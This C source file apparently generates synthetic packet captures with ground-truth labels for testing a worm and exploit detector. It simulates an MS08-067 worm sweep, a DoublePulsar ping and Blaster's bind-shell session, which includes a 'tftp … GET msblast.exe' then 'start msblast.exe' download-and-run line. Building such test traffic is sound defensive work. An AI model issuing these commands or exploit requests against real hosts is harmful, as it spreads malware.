/* Worms caught in the act of spreading.
 *
 * propagation: the office LAN's code on 192.168.5.0/24 (router .1, users
 * .101-.103 browsing). .23 is infected and sweeps the /24 upwards on
 * 445/139/135; when the sweep reaches .50, a Windows XP host, it sends it
 * the MS08-067 request over SMB1; about 20 s later .50 sweeps the /24
 * downwards on 445 and SYNs public addresses. .60 refuses 445 and stays
 * clean.
 *
 * exploits: three one-step infections on 10.20.0.0/24, each a complete TCP
 * session: Blaster's bind shell on 4444 driven to fetch msblast.exe by TFTP
 * (.11 -> .31), DoublePulsar's SMB1 Trans2 SESSION_SETUP ping (.12 -> .32)
 * and the MS08-067 request (.13 -> .33). */
#include "office.h"

#define PROP_NET 0xc0a80500u   /* 192.168.5.0/24 */
#define EXPL_NET 0x0a140000u   /* 10.20.0.0/24 */

enum { SMB_BUF = 2048 };

/* One request from the client, its answer from the server srv_us later;
 * returns the time of the last packet. */
static uint64_t exchange(struct gen *g, struct gen_flow *f, const uint8_t *req, size_t rlen,
			 const uint8_t *resp, size_t plen, uint64_t t, uint32_t srv_us)
{
	t = gen_flow_send(g, f, true, req, rlen, t);
	if (plen)
		t = gen_flow_send(g, f, false, resp, plen, t + srv_us);
	return t;
}

/* ASCII to UTF-16LE with a NUL; returns the bytes written. */
static size_t utf16(uint8_t *out, size_t cap, const char *s)
{
	size_t n = 0;

	for (; *s && n + 4 <= cap; s++, n += 2)
		out[n] = (uint8_t)*s, out[n + 1] = 0;
	out[n] = 0, out[n + 1] = 0;
	return n + 2;
}

/* SMB1 NEGOTIATE, anonymous SESSION_SETUP_ANDX and TREE_CONNECT_ANDX to
 * \\SERVER\IPC$ on an open flow; sets uid and tid in h. */
static uint64_t smb1_ipc(struct gen *g, struct gen_flow *f, struct gen_smb1_hdr *h, uint64_t t)
{
	static const uint8_t dialect[] = "\x02NT LM 0.12";
	static const uint8_t ntlm[] = "NTLMSSP\0\x01\0\0\0\x05\x02\x88\xa0";
	uint8_t req[SMB_BUF], resp[SMB_BUF], w[68], b[128];
	char unc[40];
	size_t rl, pl, n;
	uint32_t srv = gen_rng_range(&g->rng, 150, 700);

	memset(w, 0, sizeof(w));
	h->cmd = 0x72, h->resp = false, h->mid++;
	rl = gen_smb1(req, sizeof(req), h, NULL, 0, dialect, sizeof(dialect));
	h->resp = true;
	w[0] = 0, w[2] = 0x03, w[3] = 50, w[5] = 1;   /* dialect 0, user security, 50 mpx */
	pl = gen_smb1(resp, sizeof(resp), h, w, 17, g->filler + 100, 16);
	t = exchange(g, f, req, rl, resp, pl, t + 300, srv);

	memset(w, 0, sizeof(w));
	w[0] = 0xff;
	h->cmd = 0x73, h->resp = false, h->mid++;
	rl = gen_smb1(req, sizeof(req), h, w, 12, ntlm, sizeof(ntlm) - 1);
	h->resp = true, h->uid = (uint16_t)(2048 + gen_rng_below(&g->rng, 4096));
	n = utf16(b, sizeof(b), "Windows 5.1");
	pl = gen_smb1(resp, sizeof(resp), h, w, 4, b, n);
	t = exchange(g, f, req, rl, resp, pl, t + 200, srv);

	memset(w, 0, sizeof(w));
	w[0] = 0xff, w[6] = 1;                         /* password length 1 */
	h->cmd = 0x75, h->resp = false, h->mid++;
	snprintf(unc, sizeof(unc), "\\\\%u.%u.%u.%u\\IPC$", f->s->ip[0], f->s->ip[1], f->s->ip[2],
		 f->s->ip[3]);
	b[0] = 0;
	n = 1 + utf16(b + 1, sizeof(b) - 8, unc);
	memcpy(b + n, "?????", 6);
	rl = gen_smb1(req, sizeof(req), h, w, 4, b, n + 6);
	h->resp = true, h->tid = 2048;
	pl = gen_smb1(resp, sizeof(resp), h, w, 3, (const uint8_t *)"IPC", 4);
	return exchange(g, f, req, rl, resp, pl, t + 200, srv);
}

/* The MS08-067 step on an open flow to 445: IPC$, open \srvsvc, bind,
 * then NetprPathCanonicalize with a climbing path. The server never
 * answers the last request: the exploit took it. */
static uint64_t ms08_067(struct gen *g, struct gen_flow *f, uint64_t t)
{
	struct gen_smb1_hdr h = {.pid = (uint16_t)gen_rng_range(&g->rng, 500, 4000)};
	uint8_t req[SMB_BUF], resp[SMB_BUF], w[68], b[128], dce[512];
	size_t rl, pl, n;
	uint16_t fid = (uint16_t)(0x4000 + gen_rng_below(&g->rng, 0x3000));
	uint32_t srv = gen_rng_range(&g->rng, 150, 700);

	t = smb1_ipc(g, f, &h, t);

	memset(w, 0, sizeof(w));
	w[0] = 0xff;
	h.cmd = 0xa2, h.resp = false, h.mid++;
	w[5] = 14;                                     /* name length */
	w[16] = 0x9f, w[17] = 0x01, w[18] = 0x02;      /* desired access */
	w[34] = 0x03;                                  /* share read/write */
	w[38] = 1;                                     /* open existing */
	b[0] = 0;
	n = 1 + utf16(b + 1, sizeof(b) - 1, "\\srvsvc");
	rl = gen_smb1(req, sizeof(req), &h, w, 24, b, n);
	h.resp = true;
	memset(w, 0, sizeof(w));
	w[0] = 0xff, w[5] = (uint8_t)fid, w[6] = (uint8_t)(fid >> 8);
	pl = gen_smb1(resp, sizeof(resp), &h, w, 34, NULL, 0);
	t = exchange(g, f, req, rl, resp, pl, t + 200, srv);

	h.resp = false, h.mid++;
	n = gen_dce_bind_srvsvc(dce, sizeof(dce), 1);
	rl = gen_smb1_write_andx(req, sizeof(req), &h, fid, dce, n);
	h.cmd = 0x2f, h.resp = true;
	memset(w, 0, sizeof(w));
	w[0] = 0xff, w[4] = (uint8_t)n;                /* count written */
	pl = gen_smb1(resp, sizeof(resp), &h, w, 6, NULL, 0);
	t = exchange(g, f, req, rl, resp, pl, t + 150, srv);

	h.cmd = 0x2e, h.resp = false, h.mid++;
	memset(w, 0, sizeof(w));
	w[0] = 0xff, w[4] = (uint8_t)fid, w[5] = (uint8_t)(fid >> 8);
	w[10] = 0x00, w[11] = 0x04;                    /* max count 1024 */
	rl = gen_smb1(req, sizeof(req), &h, w, 12, NULL, 0);
	h.resp = true;
	n = gen_dce_bind_ack(dce, sizeof(dce), 1);
	memset(w, 0, sizeof(w));
	w[0] = 0xff, w[10] = (uint8_t)n, w[12] = 60;   /* data length, offset */
	b[0] = 0;
	memcpy(b + 1, dce, n);
	pl = gen_smb1(resp, sizeof(resp), &h, w, 12, b, n + 1);
	t = exchange(g, f, req, rl, resp, pl, t + 150, srv);

	h.resp = false, h.mid++;
	n = gen_dce_ms08_067(dce, sizeof(dce), 2, g->filler + 500, 64);
	rl = gen_smb1_write_andx(req, sizeof(req), &h, fid, dce, n);
	return gen_flow_send(g, f, true, req, rl, t + 150);
}

/* DoublePulsar's ping on an open flow to 445: IPC$, then Trans2
 * SESSION_SETUP; the implant answers STATUS_NOT_IMPLEMENTED with the
 * multiplex ID raised by 16. */
static uint64_t doublepulsar(struct gen *g, struct gen_flow *f, uint64_t t)
{
	struct gen_smb1_hdr h = {.pid = 0xfeff};
	uint8_t req[SMB_BUF], resp[SMB_BUF];
	size_t rl, pl;

	h.mid = 0;
	t = smb1_ipc(g, f, &h, t);
	h.mid = 65, h.resp = false;
	rl = gen_doublepulsar_ping(req, sizeof(req), &h, 0x0134ee00);
	h.cmd = 0x32, h.resp = true, h.mid = 81, h.status = 0xc0000002;
	pl = gen_smb1(resp, sizeof(resp), &h, NULL, 0, NULL, 0);
	return exchange(g, f, req, rl, resp, pl, t + 200, 400);
}

/* ARP between two LAN hosts: who-has and its answer. */
static void arp_pair(struct gen *g, struct gen_host *a, struct gen_host *b, uint64_t t)
{
	struct gen_pkt p;

	gen_pkt_arp(&p, 1, a, b);
	gen_emit(g, t, &p);
	gen_pkt_arp(&p, 2, b, a);
	gen_emit(g, t + gen_rng_range(&g->rng, 200, 900), &p);
}

/* ---- propagation ---------------------------------------------------------- */

struct prop {
	struct office lan;
	struct gen_host w23, w50, h60;
};

/* .50 once infected: one descending pass over the /24 on 445 from t, and
 * SYNs to distinct public addresses on 445 until the end. */
static void worm50(struct gen *g, struct prop *s, uint64_t t0)
{
	static const uint16_t port445[] = {445};
	struct gen_addrperm perm;
	uint64_t t;

	office_sweep(g, &s->lan, &s->w50, t0, port445, 1, true, 0);
	gen_addrperm_init(&perm, &g->rng);
	for (t = t0 + GEN_MS(300); t < OFFICE_DURATION - GEN_US(1);
	     t += gen_rng_range(&g->rng, 100000, 500000)) {
		struct gen_host dst;
		struct gen_flow f;
		uint32_t ip;

		if (!gen_addrperm_next(&perm, &ip))
			break;
		office_outside(g, &s->lan, &dst, ip);
		gen_flow_init(&f, g, &s->w50, &dst, office_port(&s->lan, &s->w50), 445, 100000);
		f.cwin = 64512;
		office_lost_syn(g, &f, t, gen_rng_chance(&g->rng, 300));
	}
}

ww_rc gen_scn_propagation(struct gen *g, FILE *truth)
{
	static const uint16_t ports[] = {445, 139, 135};
	static const struct {
		const char *addr, *expect, *what;
	} rows[] = {
		{"192.168.5.23", "infected",
		 "Conficker-like: ascending sweep of 192.168.5.0/24 on 445/139/135; sends "
		 "the MS08-067 request to .50"},
		{"192.168.5.50", "infected",
		 "exploited by .23 (MS08-067); ~20 s later sweeps the /24 downwards on 445 "
		 "and SYNs public addresses"},
		{"192.168.5.60", "normal", "contacted on 445/139/135 by .23 and .50, refuses (RST)"},
		{"192.168.5.101", "normal", "DNS then HTTP/HTTPS"},
		{"192.168.5.102", "normal", "DNS then HTTP/HTTPS"},
		{"192.168.5.103", "normal", "DNS then HTTP/HTTPS"},
	};
	struct prop *s = ww_calloc(1, sizeof(*s));
	struct gen_flow f;
	uint64_t t, reach = 0;
	ww_rc rc = WW_OK;

	if (!s) {
		gen_error("out of memory");
		return WW_ERR_NOMEM;
	}
	office_lan_init(&s->lan, PROP_NET);
	office_lan_host(&s->lan, g, &s->w23, 23, true, true);
	office_lan_host(&s->lan, g, &s->w50, 50, true, true);
	office_lan_host(&s->lan, g, &s->h60, 60, false, false);
	for (uint8_t i = 0; i < 3; i++)
		office_lan_host(&s->lan, g, &s->lan.users[i], (uint8_t)(101 + i), false, true);

	for (unsigned pass = 0; pass < 3; pass++) {
		t = office_sweep(g, &s->lan, &s->w23, GEN_US(10 + pass * 100), ports,
				 WW_ARRAY_LEN(ports), false, pass == 0 ? 50 : 0);
		if (pass == 0)
			reach = t;
	}
	/* The sweep found .50 listening: the exploit, 40-60 ms later. */
	gen_flow_init(&f, g, &s->w23, &s->w50, office_port(&s->lan, &s->w23), 445,
		      gen_rng_range(&g->rng, 150, 600));
	t = gen_flow_open(g, &f, reach + GEN_MS(40) + gen_rng_below(&g->rng, 20000));
	t = ms08_067(g, &f, t);
	t = gen_flow_close(g, &f, true, t + GEN_MS(800));
	worm50(g, s, t + GEN_US(20) + gen_rng_below(&g->rng, 1000000));
	/* .23's SYNs to random public addresses on 445, as in the office. */
	for (t = GEN_US(6); t < OFFICE_DURATION - GEN_US(10);
	     t += gen_rng_range(&g->rng, 7000000, 15000000)) {
		struct gen_host dst;

		office_outside(g, &s->lan, &dst, gen_rng_public_ipv4(&g->rng));
		gen_flow_init(&f, g, &s->w23, &dst, office_port(&s->lan, &s->w23), 445, 100000);
		f.cwin = 64512;
		office_lost_syn(g, &f, t, true);
	}
	for (unsigned i = 0; i < 3; i++)
		office_browse(g, &s->lan, i);
	office_chatter_host(g, &s->lan, &s->w23, false);
	office_chatter_host(g, &s->lan, &s->w50, false);
	office_chatter_host(g, &s->lan, &s->h60, true);
	for (unsigned i = 0; i < 3; i++)
		office_chatter_host(g, &s->lan, &s->lan.users[i], true);
	free(s);
	for (size_t i = 0; i < WW_ARRAY_LEN(rows) && !rc; i++)
		rc = gen_truth_row(truth, rows[i].addr, rows[i].expect, rows[i].what);
	return rc;
}

/* ---- exploits ------------------------------------------------------------- */

/* TFTP (RFC 1350) download of a file of len bytes by the client from the
 * server's port 69: RRQ, then 512-byte DATA blocks from a new server port,
 * each ACKed. Returns the time of the last ACK. */
static uint64_t tftp_get(struct gen *g, struct gen_host *c, struct gen_host *s, const char *file,
			 size_t len, uint64_t t)
{
	uint8_t msg[4 + 512];
	uint16_t cport = (uint16_t)gen_rng_range(&g->rng, 1025, 5000);
	uint16_t sport = (uint16_t)gen_rng_range(&g->rng, 1025, 5000);
	size_t n = strlen(file), off = 0;
	struct gen_pkt p;

	msg[0] = 0, msg[1] = 1;                        /* RRQ */
	memcpy(msg + 2, file, n + 1);
	memcpy(msg + 3 + n, "octet", 6);
	gen_pkt_udp(&p, c, s, cport, 69, msg, 2 + n + 1 + 6);
	gen_emit(g, t, &p);
	for (uint16_t blk = 1;; blk++) {
		size_t k = len - off > 512 ? 512 : len - off;

		msg[0] = 0, msg[1] = 3;
		put16(msg + 2, blk);
		memcpy(msg + 4, g->filler + 1000 + off, k);
		t += gen_rng_range(&g->rng, 300, 900);
		gen_pkt_udp(&p, s, c, sport, cport, msg, 4 + k);
		gen_emit(g, t, &p);
		msg[1] = 4;
		t += gen_rng_range(&g->rng, 100, 300);
		gen_pkt_udp(&p, c, s, cport, sport, msg, 4);
		gen_emit(g, t, &p);
		off += k;
		if (k < 512)
			return t;
	}
}

/* A line of shell text from one side of f at t. */
static uint64_t say(struct gen *g, struct gen_flow *f, bool from_client, const char *text,
		    uint64_t t)
{
	return gen_flow_send(g, f, from_client, (const uint8_t *)text, strlen(text), t);
}

/* Blaster's second step: the DCOM exploit left cmd.exe bound to 4444 on
 * the victim; the worm types a TFTP download of itself and starts it. */
static uint64_t blaster_shell(struct gen *g, struct gen_flow *f, uint64_t t)
{
	static const char banner[] = "Microsoft Windows XP [Version 5.1.2600]\r\n"
				     "(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n"
				     "C:\\WINDOWS\\system32>";
	static const char get[] = "tftp -i 10.20.0.11 GET msblast.exe\r\n";
	static const char done[] = "Transfer successful: 6176 bytes in 1 second, 6176 bytes/s\r\n"
				   "\r\nC:\\WINDOWS\\system32>";
	static const char start[] = "start msblast.exe\r\n";
	static const char prompt[] = "\r\nC:\\WINDOWS\\system32>";

	t = say(g, f, false, banner, t + 2000);
	t = say(g, f, true, get, t + 5000);
	t = say(g, f, false, get, t + 300);            /* cmd.exe echoes the line */
	t = tftp_get(g, f->s, f->c, "msblast.exe", 6176, t + 20000);
	t = say(g, f, false, done, t + 2000);
	t = say(g, f, true, start, t + 3000);
	t = say(g, f, false, start, t + 300);
	return say(g, f, false, prompt, t + 20000);
}

ww_rc gen_scn_exploits(struct gen *g, FILE *truth)
{
	static const struct {
		const char *addr, *expect, *what;
	} rows[] = {
		{"10.20.0.11", "infected", "Blaster: drives the shell on .31:4444 to tftp msblast.exe"},
		{"10.20.0.12", "infected", "DoublePulsar ping (SMB1 Trans2 SESSION_SETUP) to .32:445"},
		{"10.20.0.13", "infected", "MS08-067 NetprPathCanonicalize request to .33:445"},
		{"10.20.0.31", "suspicious", "received Blaster's shell session from .11"},
		{"10.20.0.32", "suspicious", "received DoublePulsar's ping from .12"},
		{"10.20.0.33", "suspicious", "received the MS08-067 request from .13"},
	};
	struct gen_host h[6];
	ww_rc rc = WW_OK;

	for (unsigned i = 0; i < 6; i++) {
		uint8_t last = (uint8_t)(i < 3 ? 11 + i : 31 + i - 3), mac[6];

		gen_mac_for(mac, 0x20, last);
		gen_host_v4(&h[i], EXPL_NET | last, mac, 128,
			    (uint16_t)gen_rng_range(&g->rng, 300, 30000));
	}
	for (unsigned i = 0; i < 3; i++) {
		static const uint16_t dport[] = {4444, 445, 445};
		struct gen_flow f;
		uint64_t t = GEN_US(1 + 3 * i) + gen_rng_below(&g->rng, 500000);

		arp_pair(g, &h[i], &h[i + 3], t);
		gen_flow_init(&f, g, &h[i], &h[i + 3], (uint16_t)gen_rng_range(&g->rng, 1025, 5000),
			      dport[i], gen_rng_range(&g->rng, 150, 600));
		t = gen_flow_open(g, &f, t + GEN_MS(1));
		if (i == 0)
			t = blaster_shell(g, &f, t);
		else if (i == 1)
			t = doublepulsar(g, &f, t);
		else
			t = ms08_067(g, &f, t);
		gen_flow_close(g, &f, true, t + GEN_MS(500));
	}
	for (size_t i = 0; i < WW_ARRAY_LEN(rows) && !rc; i++)
		rc = gen_truth_row(truth, rows[i].addr, rows[i].expect, rows[i].what);
	return rc;
}
